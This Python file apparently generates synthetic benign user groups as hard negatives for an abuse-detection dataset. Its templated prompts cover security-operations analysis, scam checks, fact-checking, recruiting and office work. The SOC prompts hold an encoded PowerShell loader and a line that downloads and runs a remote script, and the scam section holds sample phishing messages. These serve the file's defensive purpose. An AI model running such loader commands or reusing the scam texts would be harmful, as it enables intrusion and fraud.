"""Hard negatives: benign groups that look suspicious on one signal. Their size does not change
with --benign-scale."""
from core import (T0, DAYS, Acct, hexs, local_ts, local_weekday, mk_info, new_device, srng, UA, fill)
from benign import textgen, email_for, BANKS
from bank_common import PARALLEL, LANG_NAME


class Group:
    def __init__(self, W, key, description):
        self.W = W
        self.key = key
        self.description = description
        self.rng = srng(W.seed, "hn", key)
        self.accts = []
        self.content = []

    def person(self, lang, cc, tz, off, locale, plan="free", org=None, payment=None, email=None, channel="chat", model="atlas-5"):
        rng = self.rng
        info = mk_info(email=email or email_for(rng, lang, cc), phone=cc if rng.random() < 0.5 else None,
                       payment=payment or (("pm_" + hexs(rng, 16)) if plan == "plus" else None),
                       created=T0 - rng.randint(20, 700) * 86400, plan=plan)
        if channel == "chat" and plan == "free" and rng.random() < 0.45:
            model = "atlas-5-mini"
        a = Acct(self.W.ids.account(), lang, tz, off, locale, info, org=org, channel=channel, model=model)
        self.accts.append(a)
        return a

    def session(self, a, ts, turns, net=None, dev=None, gap=(40, 380)):
        rng = self.rng
        conv = self.W.ids.conv(rng)
        if net is None:
            net, mob = a.pick_net(rng)
        if dev is None and a.channel == "chat":
            dev = a.pick_device(rng, False)
        for t in turns:
            if self.W.em.emit(a, ts, t[0], t[1], conv=conv, refused=t[2] if len(t) > 2 else False, net=net, dev=dev, rng=rng):
                if len(t) > 3 and t[3]:
                    for kind, text in t[3]:
                        self.content.append((ts, text, kind, a.id))
            ts += gap[0] + int(rng.random() * (gap[1] - gap[0]))
        return ts

    def ordinary(self, a, n, weekday_hours=(8, 23), weekend=True, topics=None):
        """Ordinary use mixed into a group member's month."""
        rng = self.rng
        tg = textgen()
        topics = topics or ["email", "info", "food", "travel", "health", "advice", "writing", "fun", "tr", "code"]
        for _ in range(n):
            d = rng.randrange(DAYS)
            if not weekend and local_weekday(d) >= 5:
                continue
            h = weekday_hours[0] + rng.random() * (weekday_hours[1] - weekday_hours[0])
            p, r, _ = tg.turn(rng, a.lang, topics[rng.randrange(len(topics))])
            self.session(a, local_ts(d, h, a.off), [(p, r, False)])

    def record(self):
        return dict(id="hn-" + self.key, description=self.description, accounts=sorted(a.id for a in self.accts))


def office_days(rng, sat=0.0):
    return [d for d in range(DAYS) if local_weekday(d) < 5 or (local_weekday(d) == 5 and rng.random() < sat)]


# ---------------------------------------------------------------------------------------------
SOC_PROMPTS = [
    ("Analyze this PowerShell we pulled from a phishing attachment and explain step by step what it does. Do not run it.\n\npowershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB4AC4AeAAvAGEAJwApAA==",
     "Decoded, the command downloads a string from a remote URL and executes it in memory (IEX + DownloadString), with a hidden window and no profile. It is a typical first-stage loader. Block the domain, check proxy logs for other hosts contacting it, and look for child processes of powershell.exe around the same time."),
    ("Write a YARA rule for a Go binary that contains the strings 'beacon' and '/api/v2' and the import 'os/exec', for hunting on our file shares",
     "rule Go_Beacon_Hunt {\n  meta: author = \"SOC\"\n  strings:\n    $go = \"Go build ID\"\n    $a = \"beacon\" ascii\n    $b = \"/api/v2\" ascii\n    $c = \"os/exec\" ascii\n  condition:\n    uint16(0) == 0x5A4D and $go and 2 of ($a,$b,$c)\n}"),
    ("Sigma rule to detect Add-MpPreference -ExclusionPath executed from a process that is not our software deployment tool",
     "title: Defender Exclusion Added by Unexpected Process\nlogsource: {product: windows, category: process_creation}\ndetection:\n  sel:\n    CommandLine|contains: 'Add-MpPreference'\n    CommandLine|contains: 'ExclusionPath'\n  filter:\n    ParentImage|endswith: '\\\\ccmexec.exe'\n  condition: sel and not filter\nlevel: high"),
    ("What does DLL side-loading of version.dll look like in Sysmon logs? Which event IDs should we alert on?",
     "Look for Sysmon Event ID 7 (Image loaded) where version.dll is loaded from a non-system directory by a signed binary, together with Event ID 11 (file created) for the DLL shortly before. Baseline legitimate software first to limit noise."),
    ("Summarize this threat report for our weekly SOC briefing in 5 bullets: attackers used fake job offers to deliver a Go-based implant, persisted via scheduled tasks, and sent victim details to a Telegram bot.",
     "- Initial access via fake recruitment messages\n- Payload: Go implant\n- Persistence: scheduled tasks at logon\n- C2/notification over Telegram Bot API\n- Action: block api.telegram.org where not needed, hunt for new scheduled tasks"),
    ("Erkläre diese Defender-Warnung für unser Ticket, kurz: Behavior:Win32/SuspExclusion.A detected on WS-0413",
     "Defender hat erkannt, dass versucht wurde, eine Ausnahme für einen Pfad hinzuzufügen. Das ist typisch für Schadsoftware, die sich vor dem Scan verstecken will. Bitte Prozessbaum prüfen, Ausnahme-Liste kontrollieren und Gerät isolieren, falls der Auslöser unbekannt ist."),
    ("Our EDR flagged a scheduled task named 'OneDriveUpdateCore' created by a user process at logon. Help me triage: what should I check?",
     "Check the task's action path and signature, who created it and when, whether the binary exists elsewhere in the fleet, network connections from that process, and compare with the legitimate OneDrive task names."),
    ("Decode this base64 and tell me if it looks malicious: aWV4IChpd3IgaHR0cHM6Ly9leGFtcGxlLmludmFsaWQvcy5wczEp",
     "It decodes to: iex (iwr https://example.invalid/s.ps1). That downloads and runs a remote script, which is suspicious in an email attachment. Treat as malicious and investigate the host."),
    ("KQL query for Defender for Endpoint: processes that spawned powershell with -enc in the last 7 days, grouped by device",
     "DeviceProcessEvents\n| where Timestamp > ago(7d)\n| where FileName =~ \"powershell.exe\" and ProcessCommandLine has \"-enc\"\n| summarize count() by DeviceName, InitiatingProcessFileName\n| order by count_ desc"),
    ("We got a phishing email pretending to be a conference invitation with a link to a login page. Write a short warning for all staff.",
     "Subject: Warning: fake conference invitations\n\nWe are seeing emails inviting staff to an online workshop and asking them to sign in through a link. Do not enter your credentials. Report the message with the Phish button."),
]


def hn_soc(W):
    g = Group(W, "soc", "In-house security operations team of a manufacturer analysing malware samples, phishing and writing detection rules")
    rng = g.rng
    org = "org-" + hexs(rng, 10)
    nat = [W.infra.static(rng, "DE", 0) for _ in range(2)]
    for i in range(8):
        a = g.person("en" if i % 3 else "de", "DE", "Europe/Berlin", 2, "de-DE", plan="enterprise", org=org,
                     email="%s@%s" % (["m.keller", "j.braun", "s.yilmaz", "t.wagner", "a.nowak", "l.fischer", "k.schmidt", "p.hoffmann"][i], "halbach-werke.de"))
        a.devices = [new_device(rng, False, "win_edge")]
        a.nets = [(5.0, nat[i % 2], False), (1.0, W.infra.home(rng, "DE"), False)]
        for _ in range(rng.randint(10, 20)):
            d = rng.randrange(DAYS)
            oncall = local_weekday(d) >= 5 or rng.random() < 0.12
            h = (19 + rng.random() * 4) if oncall else (8 + rng.random() * 10)
            p, r = SOC_PROMPTS[rng.randrange(len(SOC_PROMPTS))]
            g.session(a, local_ts(d, h, 2), [(p, r, False)])
        g.ordinary(a, rng.randint(2, 6), (8, 18), weekend=False)
    return g


# ---------------------------------------------------------------------------------------------
GENERIC_SCAMS = [
    ("en", "Your parcel could not be delivered due to an unpaid customs fee of $1.99. Pay now to avoid return: https://usps-redelivery.help/track"),
    ("en", "Hi Mum, I dropped my phone in the toilet, this is my new number. Can you help me pay a bill today? I'll pay you back tomorrow x"),
    ("en", "Congratulations! Your number was selected in the Global Mobile Lottery. To claim $850,000 send your full name and a processing fee."),
    ("es", "BBVA: Su cuenta ha sido bloqueada por actividad sospechosa. Verifique sus datos en el siguiente enlace para evitar la suspensión."),
    ("pt", "Olá, aqui é do RH da Magalu. Temos uma vaga de home office, R$300 por dia, só avaliar produtos. Tem interesse?"),
    ("de", "Sehr geehrter Kunde, Ihr Paket wartet auf Zustellung. Bitte bestätigen Sie die Versandgebühr von 1,99 € unter folgendem Link."),
    ("fr", "Vous avez un remboursement de 128,40 € en attente de l'Assurance Maladie. Confirmez vos coordonnées bancaires pour le recevoir."),
    ("id", "Selamat! Anda memenangkan hadiah undian dari Shopee senilai Rp 25.000.000. Hubungi admin kami untuk klaim hadiah."),
    ("hi", "आपका बिजली कनेक्शन आज रात 9:30 बजे काट दिया जाएगा क्योंकि पिछले महीने का बिल अपडेट नहीं हुआ। तुरंत इस नंबर पर कॉल करें।"),
    ("ar", "تهانينا! لقد ربحت جائزة نقدية من شركة الاتصالات. أرسل رمز التحقق الذي وصلك لاستلام الجائزة."),
]
ASK = {
    "en": ["I got this message on WhatsApp, is this a scam?\n\n\"{m}\"", "Is this legit or a scam? Someone texted me: {m}", "my mom received this, should she reply?? \"{m}\""],
    "es": ["Me llegó este mensaje, ¿es una estafa?\n\n«{m}»", "¿Esto es real o es un fraude? {m}"],
    "pt": ["Recebi essa mensagem, é golpe?\n\n\"{m}\""],
    "de": ["Ich habe diese Nachricht bekommen, ist das Betrug?\n\n„{m}“", "Ist das seriös? {m}"],
    "fr": ["J'ai reçu ce message, c'est une arnaque ?\n\n« {m} »"],
    "id": ["Saya dapat pesan ini, apakah ini penipuan?\n\n\"{m}\""],
    "hi": ["मुझे यह मैसेज आया है, क्या यह फ्रॉड है?\n\n\"{m}\""],
    "ar": ["وصلتني هذه الرسالة، هل هي احتيال؟\n\n\"{m}\""],
    "ht": ["Mwen resevwa mesaj sa a, èske se yon eskwokri?\n\n\"{m}\""],
}
ANSWER = {
    "en": "This has several signs of a scam: an unexpected offer or urgent request, pressure to pay or share details, and a link or number you don't know. Don't reply, don't pay anything, and block the sender. If you already paid, contact your bank right away.",
    "es": "Tiene varias señales de estafa: una oferta inesperada, urgencia y una petición de dinero o datos. No respondas, no pagues nada y bloquea el número. Si ya pagaste, contacta a tu banco.",
    "pt": "Tem cara de golpe: oferta fácil demais, pressa e pedido de dinheiro ou dados. Não responda, não pague nada e bloqueie o contato.",
    "de": "Das hat typische Merkmale von Betrug: ein unerwartetes Angebot, Zeitdruck und die Bitte um Geld oder Daten. Nicht antworten, nichts bezahlen und den Absender blockieren.",
    "fr": "Cela ressemble fort à une arnaque : message inattendu, urgence, demande d'argent ou de coordonnées. Ne répondez pas et ne cliquez pas sur le lien.",
    "id": "Ini ciri-ciri penipuan: tawaran tak terduga, desakan, dan permintaan uang atau data. Jangan dibalas dan jangan transfer apa pun.",
    "hi": "इसमें फ्रॉड के कई संकेत हैं: अचानक संदेश, जल्दबाज़ी का दबाव और पैसे या जानकारी की माँग। जवाब न दें और कोई भुगतान न करें।",
    "ar": "هذه الرسالة فيها علامات احتيال واضحة: عرض غير متوقع وضغط للاستعجال وطلب أموال أو بيانات. لا ترد ولا ترسل أي رمز.",
    "ht": "Mesaj sa a gen anpil siy eskwokri: yon òf ou pa t ap tann, prese w, epi mande lajan. Pa reponn, pa peye anyen.",
}


def hn_scamcheck(W, scam_content):
    g = Group(W, "scamcheck", "Unrelated people pasting messages they received and asking whether they are scams (some received the scam operations' own messages)")
    rng = g.rng
    pasted = []
    # messages that really came from the operations, as their targets received them
    by_kind = {}
    for ts, text, kind, aid in scam_content:
        by_kind.setdefault(kind, []).append(text)
    people = [("es", "MX", "America/Mexico_City", -6, "es-MX", "script_es"), ("es", "CO", "America/Bogota", -5, "es-CO", "script_es"),
              ("es", "ES", "Europe/Madrid", 2, "es-ES", "script_es"), ("de", "DE", "Europe/Berlin", 2, "de-DE", "script_de"),
              ("de", "AT", "Europe/Vienna", 2, "de-AT", "script_de"), ("en", "KE", "Africa/Nairobi", 3, "en-KE", "script_sw"),
              ("en", "KE", "Africa/Nairobi", 3, "en-KE", "script_sw"), ("ht", "US", "America/New_York", -4, "ht-US", "script_ht"),
              ("en", "US", "America/New_York", -4, "en-US", "script_ht"), ("en", "US", "America/Chicago", -5, "en-US", "letter"),
              ("en", "US", "America/Los_Angeles", -7, "en-US", "letter"), ("en", "GB", "Europe/London", 1, "en-GB", "letter"),
              ("en", "RW", "Africa/Kigali", 2, "en-RW", "script_rw")]
    for _ in range(17):
        lang, m = GENERIC_SCAMS[rng.randrange(len(GENERIC_SCAMS))]
        loc = {"en": ("US", "America/New_York", -4, "en-US"), "es": ("AR", "America/Argentina/Buenos_Aires", -3, "es-AR"), "pt": ("BR", "America/Sao_Paulo", -3, "pt-BR"),
               "de": ("DE", "Europe/Berlin", 2, "de-DE"), "fr": ("FR", "Europe/Paris", 2, "fr-FR"), "id": ("ID", "Asia/Jakarta", 7, "id-ID"),
               "hi": ("IN", "Asia/Kolkata", 5.5, "hi-IN"), "ar": ("EG", "Africa/Cairo", 3, "ar-EG")}[lang]
        people.append((lang, loc[0], loc[1], loc[2], loc[3], "generic:" + m))
    for lang, cc, tz, off, locale, src in people:
        bank_lang = lang if lang in BANKS else "en"
        a = g.person(bank_lang, cc, tz, off, locale)
        home = W.infra.home(rng, cc)
        a.devices = [new_device(rng, True), new_device(rng, False)]
        a.nets = [(3.0, home, False), (2.0, W.infra.mobile(rng, home["country"]), True)]
        if src.startswith("generic:"):
            msg = src[8:]
        else:
            pool = by_kind.get(src) or [GENERIC_SCAMS[0][1]]
            msg = pool[rng.randrange(len(pool))]
        asks = ASK.get(lang, ASK["en"])
        p = asks[rng.randrange(len(asks))].replace("{m}", msg)
        d = rng.randrange(DAYS)
        g.session(a, local_ts(d, 9 + rng.random() * 13, off), [(p, ANSWER.get(lang, ANSWER["en"]), False)])
        if rng.random() < 0.4:
            d2 = min(DAYS - 1, d + rng.randint(1, 6))
            g.session(a, local_ts(d2, 9 + rng.random() * 13, off), [(asks[0].replace("{m}", msg[: max(40, len(msg) // 2)]), ANSWER.get(lang, ANSWER["en"]), False)])
        g.ordinary(a, rng.randint(6, 20))
    return g


# ---------------------------------------------------------------------------------------------
FC_ASKS = [
    "Analiza este artículo de opinión y dime qué técnicas de propaganda usa y qué afirmaciones habría que verificar:\n\n{a}",
    "¿Este texto tiene indicios de haber sido escrito por una máquina o traducido? Señala frases concretas:\n\n{a}",
    "Compara estos dos textos publicados en medios distintos y dime si parecen venir de la misma fuente:\n\n{a}",
]
FC_ANS = [
    "Técnicas identificadas: apelación a la soberanía, falsa dicotomía, generalización a partir de ejemplos anecdóticos y ausencia de fuentes verificables. Afirmaciones a verificar: las cifras de empleo local y las declaraciones atribuidas a \"los pescadores\".",
    "Hay señales de traducción: estructuras poco naturales, conectores repetidos y un tono uniforme. No es concluyente, pero conviene buscar el texto original.",
    "Comparten estructura, argumentos y varias frases casi idénticas, lo que sugiere un origen común o una misma plantilla.",
]
FC_RU = [
    ("Traduce al español estos comentarios de Telegram y dime si parecen coordinados:\n{c}", "Traducción: comentarios breves que repiten la misma queja con palabras distintas. La similitud de tono y el horario de publicación sugieren coordinación, pero hay que revisar las cuentas."),
]


def hn_factcheck(W, n1_content, n4_content):
    g = Group(W, "factcheck", "Fact-checking desk of a newsroom analysing propaganda articles and coordinated comments, pasting the texts they study")
    rng = g.rng
    org = "org-" + hexs(rng, 10)
    nat = W.infra.static(rng, "ES", 0)
    arts = [t for ts, t, k, aid in n1_content if k == "article_es"] or ["(sin texto)"]
    rus = [t for ts, t, k, aid in n4_content if k == "reply_ru"] or ["Опять решили за нас."]
    for i in range(7):
        a = g.person("es", "ES", "Europe/Madrid", 2, "es-ES", plan="team", org=org,
                     email="%s@%s" % (["i.moreno", "l.castro", "p.ruiz", "a.vidal", "c.serrano", "r.gil", "m.ortega"][i], "verificado-redaccion.es"))
        a.devices = [new_device(rng, False, "mac_chrome"), new_device(rng, True)]
        a.nets = [(5.0, nat, False), (1.0, W.infra.home(rng, "ES"), False), (1.0, W.infra.mobile(rng, "ES"), True)]
        for _ in range(rng.randint(8, 16)):
            d = rng.randrange(DAYS)
            h = 9 + rng.random() * 11
            if rng.random() < 0.7:
                k = rng.randrange(len(FC_ASKS))
                text = arts[rng.randrange(len(arts))]
                if k == 2:
                    text = text + "\n\n---\n\n" + arts[rng.randrange(len(arts))]
                g.session(a, local_ts(d, h, 2), [(FC_ASKS[k].replace("{a}", text), FC_ANS[k], False)])
            else:
                cs = "\n".join(rng.sample(rus, min(4, len(rus))))
                g.session(a, local_ts(d, h, 2), [(FC_RU[0][0].replace("{c}", cs), FC_RU[0][1], False)])
        g.ordinary(a, rng.randint(2, 6), (9, 20), weekend=False)
    return g


# ---------------------------------------------------------------------------------------------
CATALOG_LANGS = [("en", "English"), ("es", "Spanish"), ("de", "German"), ("fr", "French"), ("pt", "Portuguese")]
CATALOG_ITEMS = [
    ("TS-4410", "cotton t-shirt, crew neck, navy, sizes S-XXL", {"en": "Classic Crew Neck Cotton T-Shirt - Navy\n- Soft 100% cotton\n- Relaxed everyday fit\n- Sizes S to XXL",
                                                              "es": "Camiseta clásica de algodón con cuello redondo - Azul marino\n- Algodón 100% suave\n- Corte cómodo para el día a día\n- Tallas S a XXL",
                                                              "de": "Klassisches Baumwoll-T-Shirt mit Rundhals - Marine\n- Weiche 100 % Baumwolle\n- Lockere Alltagspassform\n- Größen S bis XXL",
                                                              "fr": "T-shirt classique col rond en coton - Marine\n- Coton 100 % doux\n- Coupe décontractée\n- Tailles S à XXL",
                                                              "pt": "Camiseta clássica de algodão gola careca - Azul-marinho\n- Algodão 100% macio\n- Caimento confortável\n- Tamanhos P ao GG"}),
    ("KB-0932", "wireless keyboard, low profile, rechargeable, US layout", {"en": "Slim Wireless Rechargeable Keyboard\n- Low-profile quiet keys\n- USB-C charging, 3 months per charge\n- US layout",
                                                                          "es": "Teclado inalámbrico recargable y delgado\n- Teclas silenciosas de perfil bajo\n- Carga USB-C, 3 meses por carga\n- Distribución EE. UU.",
                                                                          "de": "Flache kabellose Tastatur mit Akku\n- Leise, flache Tasten\n- USB-C-Laden, 3 Monate pro Ladung\n- US-Layout",
                                                                          "fr": "Clavier sans fil rechargeable extra-plat\n- Touches silencieuses\n- Recharge USB-C, 3 mois d'autonomie\n- Disposition US",
                                                                          "pt": "Teclado sem fio recarregável fino\n- Teclas silenciosas\n- Carregamento USB-C, 3 meses por carga\n- Layout americano"}),
    ("PL-7781", "ceramic plant pot, 20 cm, matte white, drainage hole", {"en": "Matte White Ceramic Plant Pot, 20 cm\n- Drainage hole included\n- Minimal modern design\n- Indoor and outdoor use",
                                                                       "es": "Maceta de cerámica blanca mate, 20 cm\n- Con orificio de drenaje\n- Diseño moderno y minimalista\n- Uso interior y exterior",
                                                                       "de": "Keramik-Blumentopf matt weiß, 20 cm\n- Mit Abflussloch\n- Modernes, schlichtes Design\n- Für drinnen und draußen",
                                                                       "fr": "Pot de fleurs en céramique blanc mat, 20 cm\n- Trou de drainage\n- Design moderne épuré\n- Intérieur et extérieur",
                                                                       "pt": "Vaso de cerâmica branco fosco, 20 cm\n- Com furo de drenagem\n- Design moderno e minimalista\n- Uso interno e externo"}),
]


def hn_catalog(W):
    g = Group(W, "catalog-api", "E-commerce company's catalogue pipeline: service accounts sending templated product-copy requests in five languages around the clock from cloud servers")
    rng = g.rng
    org = "org-" + hexs(rng, 10)
    nets = [W.infra.hosting(rng, 8), W.infra.hosting(rng, 8), W.infra.hosting(rng, 9)]
    for i in range(6):
        info = mk_info(email="svc-catalog-%d@%s" % (i + 1, "marketlane.shop"), payment="pm_" + hexs(rng, 16) if i == 0 else None,
                       created=T0 - rng.randint(100, 500) * 86400, plan="api")
        a = Acct(W.ids.account(), "en", None, 0, None, info, org=org, channel="api", model="atlas-5-mini")
        a.api_ua = "atlas-sdk-python/1.9.2"
        a.nets = [(1.0, n, False) for n in nets]
        g.accts.append(a)
        ts = T0 + rng.randrange(7200)
        while ts < T0 + DAYS * 86400:
            sku, attrs, outs = CATALOG_ITEMS[rng.randrange(len(CATALOG_ITEMS))]
            code, name = CATALOG_LANGS[rng.randrange(len(CATALOG_LANGS))]
            p = "Write a %s product title and 3 bullet points for SKU %s-%02d: %s. Plain text, no emojis." % (name, sku, rng.randint(1, 60), attrs)
            W.em.emit(a, ts, p, outs[code], net=nets[rng.randrange(3)], rng=rng, info=False)
            ts += int(rng.expovariate(1.0 / 4200)) + 60
    return g


# ---------------------------------------------------------------------------------------------
LAB_PROMPTS = [
    ("Ödev: nmap ile laboratuvar ağındaki 10.0.5.0/24 aralığını taramam gerekiyor, hangi parametreleri kullanmalıyım ve çıktıyı nasıl yorumlarım?",
     "Laboratuvar ortamında izinli tarama için örnek: nmap -sV -T4 10.0.5.0/24. Çıktıda açık portlar, servis adları ve sürümler listelenir. Raporda her açık servisin neden açık olduğunu tartışabilirsin."),
    ("DVWA'da SQL injection low seviyesini çözdüm, ödev raporu için neden çalıştığını teknik olarak açıklar mısın?",
     "Düşük seviyede kullanıcı girdisi doğrudan SQL sorgusuna ekleniyor; bu yüzden tırnak işaretiyle sorgunun yapısı değiştirilebiliyor. Çözüm olarak parametreli sorgular ve girdi doğrulama önerilmeli."),
    ("Explain a stack buffer overflow for my exam, with a small C example and how canaries prevent it",
     "A stack buffer overflow happens when a program writes past the end of a local array and overwrites the saved return address. Stack canaries place a random value before the return address; if it changes, the program aborts."),
    ("Wireshark'ta TCP üçlü el sıkışma nasıl görünür? Lab raporu için ekran görüntüsünü açıklamam lazım",
     "İlk paket SYN, ikinci SYN-ACK, üçüncü ACK'tir. Wireshark'ta 'tcp.flags.syn==1' filtresiyle görebilirsin; sıra numaralarının nasıl arttığını rapora ekle."),
    ("İşletim sistemleri dersi için fidye yazılımlarının dosyaları nasıl şifrelediğini genel hatlarıyla anlatır mısın? Kod istemiyorum, rapor için",
     "Genel olarak fidye yazılımları simetrik bir anahtarla dosyaları şifreler ve bu anahtarı saldırganın açık anahtarıyla korur. Savunma için yedekleme, yetki kısıtlama ve davranış tabanlı tespit önemlidir."),
    ("Python ile basit bir port tarayıcı yazmamız isteniyor, sadece kendi sanal makinemde deneyeceğim. socket kullanarak nasıl yapılır?",
     "Kendi sanal makinende denemek için socket.connect_ex ile belirli portlara bağlanmayı deneyen kısa bir döngü yeterli; zaman aşımını 0.5 saniye yap ve sonuçları listele."),
    ("Veri yapıları ödevi: bağlı liste tersine çevirme, Java ile",
     "Üç işaretçiyle (prev, curr, next) listeyi dolaşıp her düğümün next değerini prev'e çevir. Sonunda head = prev olur."),
    ("Lineer cebir: özdeğer ve özvektörü basitçe açıklar mısın?", "Bir matris bir vektörü sadece ölçekliyorsa, o vektör özvektör, ölçek katsayısı da özdeğerdir."),
]


def hn_campus(W):
    g = Group(W, "campus-lab", "University computer lab: students sharing lab machines and the campus NAT, doing network-security coursework at all hours")
    rng = g.rng
    nat = [W.infra.static(rng, "TR", 0) for _ in range(2)]
    lab = [new_device(rng, False, "win_chrome") for _ in range(6)]
    for i in range(25):
        a = g.person("tr" if rng.random() < 0.8 else "en", "TR", "Europe/Istanbul", 3, "tr-TR",
                     email="%s%d@ogr.bogazkent.edu.tr" % (["emre", "zeynep", "can", "elif", "burak", "selin", "mert", "ece", "kaan", "irem"][i % 10], rng.randint(2021000, 2025999)))
        own = new_device(rng, True)
        a.devices = [lab[rng.randrange(6)], lab[rng.randrange(6)], own]
        a.nets = [(4.0, nat[rng.randrange(2)], False), (1.5, W.infra.mobile(rng, "TR"), True), (1.0, W.infra.home(rng, "TR"), False)]
        for _ in range(rng.randint(6, 14)):
            d = rng.randrange(DAYS)
            h = rng.choice([10, 13, 15, 17, 20, 22, 23, 0.5, 1.5]) + rng.random()
            p, r = LAB_PROMPTS[rng.randrange(len(LAB_PROMPTS))]
            dev = lab[rng.randrange(6)]
            g.session(a, local_ts(d, h, 3), [(p, r, False)], net=nat[rng.randrange(2)], dev=dev)
        g.ordinary(a, rng.randint(3, 10), (9, 26))
    return g


# ---------------------------------------------------------------------------------------------
def hn_family(W, key, lang, cc, tz, off, locale, n, via_vpn=None):
    g = Group(W, key, "A family sharing one home connection, one laptop and one paid plan")
    rng = g.rng
    home = W.infra.home(rng, cc)
    laptop = new_device(rng, False, "win_chrome")
    card = "pm_" + hexs(rng, 16)
    for i in range(n):
        a = g.person(lang, cc, tz, off, locale, plan="plus", payment=card)
        a.devices = [laptop] + ([new_device(rng, True)] if i < n - 1 else [])
        a.nets = [(4.0, home, False), (1.0, W.infra.mobile(rng, cc), True)]
        if via_vpn is not None:
            a.nets = [(4.0, via_vpn, False), (1.0, home, False), (0.5, W.infra.vpn_exit(rng), False)]
        topics = [["email", "biz", "info", "tr"], ["study", "code", "fun", "writing"], ["health", "food", "travel", "advice"], ["study", "fun", "social"]][i % 4]
        tg = textgen()
        for _ in range(rng.randint(15, 35)):
            d = rng.randrange(DAYS)
            h = [(8, 22), (15, 24), (9, 20), (14, 22)][i % 4]
            ts = local_ts(d, h[0] + rng.random() * (h[1] - h[0]), off)
            p, r, _ = tg.turn(rng, lang, topics[rng.randrange(len(topics))])
            net, mob = a.pick_net(rng)
            g.session(a, ts, [(p, r, False)], net=net, dev=laptop if not mob else None)
    return g


# ---------------------------------------------------------------------------------------------
RECRUIT = [
    ("Write a job post for a remote {role} ({stack}), salary {sal}, US only, W2, must be able to do video interviews",
     "Job Title: {role} (Remote, US)\n\nWe're hiring a {role} to join a growing product team. You'll work with {stack} and collaborate across time zones.\n\nCompensation: {sal}\nRequirements: US work authorization, W2 only, video interviews."),
    ("Screen these 5 resumes against the job description and rank them, explain briefly. JD: {role}, {stack}.",
     "Ranking:\n1. Candidate C - strongest match on {stack}\n2. Candidate A - good experience, fewer years\n3. Candidate E\n4. Candidate B\n5. Candidate D - limited relevant experience"),
    ("This candidate's resume has overlapping full-time jobs at two companies in 2022 and a LinkedIn created last month. What should I verify before moving forward?",
     "Verify employment dates directly with the employers, ask for a live video interview with camera on, check references by calling company switchboards rather than numbers provided, and confirm identity documents match payroll details."),
    ("Write a polite rejection email for a {role} candidate who made it to the final round",
     "Hi,\n\nThank you for the time you invested in our process. After careful consideration we've decided to move forward with another candidate. We were impressed by your experience and would love to stay in touch.\n\nBest,"),
    ("Write a LinkedIn InMail to a passive candidate for a {role} role, short and personal",
     "Hi! Your background in {stack} caught my eye. We're building a small team for a {role} role, fully remote. Open to a quick chat this week?"),
    ("Create 8 interview questions for a senior {role} with {stack}", "1. Walk me through a system you designed...\n2. How do you approach code reviews?\n..."),
]
RECRUIT_S = dict(role=["React Developer", "Full Stack Engineer", "Data Engineer", "DevOps Engineer", "QA Analyst", "Go Backend Engineer"],
                 stack=["React, TypeScript", "Python, Django, AWS", "Go, Kubernetes", "Snowflake, dbt", "Terraform, GCP"],
                 sal=["$120k-$145k", "$95k-$115k", "$140k-$165k", "$60/hr"])


def hn_recruiters(W):
    g = Group(W, "recruiters", "Staffing agency recruiters writing job posts, screening résumés and checking candidates, with templated prompts")
    rng = g.rng
    org = "org-" + hexs(rng, 10)
    nat = W.infra.static(rng, "US", 1)
    for i in range(6):
        a = g.person("en", "US", "America/Chicago", -5, "en-US", plan="team", org=org,
                     email="%s@%s" % (["kelsey", "mark.d", "tina.r", "jordan", "priya.s", "ben.h"][i], "northbridge-talent.com"))
        a.devices = [new_device(rng, False, "win_chrome")]
        a.nets = [(5.0, nat, False), (1.0, W.infra.home(rng, "US"), False)]
        for _ in range(rng.randint(12, 22)):
            d = rng.choice(office_days(rng))
            p, r = RECRUIT[rng.randrange(len(RECRUIT))]
            vals = {}
            g.session(a, local_ts(d, 8 + rng.random() * 9.5, -5), [(fill(p, RECRUIT_S, rng, vals), fill(r, RECRUIT_S, rng, vals), False)])
        g.ordinary(a, rng.randint(2, 5), (8, 18), weekend=False)
    return g


# ---------------------------------------------------------------------------------------------
CN_OFFICE = [
    ("帮我写一封英文邮件给国外客户，通知他们国庆节（10月1日到8日）放假，期间订单顺延发货",
     "Dear valued customer,\n\nPlease note that our office will be closed for the National Day holiday from October 1 to October 8. Orders placed during this period will be shipped after we return. Thank you for your understanding.\n\nBest regards,"),
    ("写一封英文邮件，告诉客户原材料涨价，下个季度报价上调5%，语气客气",
     "Dear partner,\n\nDue to rising raw material costs, we will need to adjust our prices by 5% starting next quarter. We truly value our cooperation and will do our best to keep costs stable.\n\nKind regards,"),
    ("把这段话翻译成英文：样品已经寄出，快递单号稍后发给您", "The samples have been shipped; we will send you the tracking number shortly."),
    ("Excel里怎么把两张表按订单号合并？", "可以使用 XLOOKUP 或 VLOOKUP：在表一中输入 =XLOOKUP(A2, 表二!A:A, 表二!B:B)，按订单号查找并返回对应列。"),
    ("帮我做一个季度销售总结PPT的大纲", "1. 季度业绩概览\n2. 重点客户分析\n3. 产品线表现\n4. 问题与改进\n5. 下季度目标"),
    ("英文回复客户：他们问能不能把付款方式改成60天账期", "Dear customer,\n\nThank you for your message. We can offer 30-day payment terms for now and will review 60 days after the next two orders.\n\nBest regards,"),
    ("写一份周报：本周跟进客户12家，新签2单，完成展会报名", "本周工作汇报\n1. 跟进客户12家\n2. 新签订单2单\n3. 完成广交会报名\n下周计划：准备样品与报价。"),
]


def hn_cn_office(W):
    g = Group(W, "cn-office", "Staff of a trading company in Beijing prompting in Chinese during office hours through the same popular commercial VPN exit")
    rng = g.rng
    home_vpn = W.shared["vpn_a"]
    for i in range(15):
        a = g.person("zh", "CN", "Asia/Shanghai", 8, "zh-CN", plan="plus" if rng.random() < 0.5 else "free",
                     email="%s%d@%s" % (["liu", "zhang", "wang", "chen", "li", "zhao", "sun", "zhou"][i % 8], rng.randint(100, 999), ["163.com", "qq.com", "huaxin-trade.cn"][i % 3]))
        a.devices = [new_device(rng, False, "win_chrome"), new_device(rng, True)]
        a.nets = [(5.0, home_vpn, False), (1.0, W.infra.vpn_exit(rng), False), (0.5, W.infra.home(rng, "CN"), False)]
        for _ in range(rng.randint(10, 22)):
            d = rng.choice(office_days(rng))
            h = rng.choice([9.2, 10, 10.5, 11, 14, 15, 16, 17]) + rng.random() * 0.9
            p, r = CN_OFFICE[rng.randrange(len(CN_OFFICE))]
            g.session(a, local_ts(d, h, 8), [(p, r, False)], net=home_vpn if rng.random() < 0.8 else None)
        g.ordinary(a, rng.randint(2, 6), (19, 23))
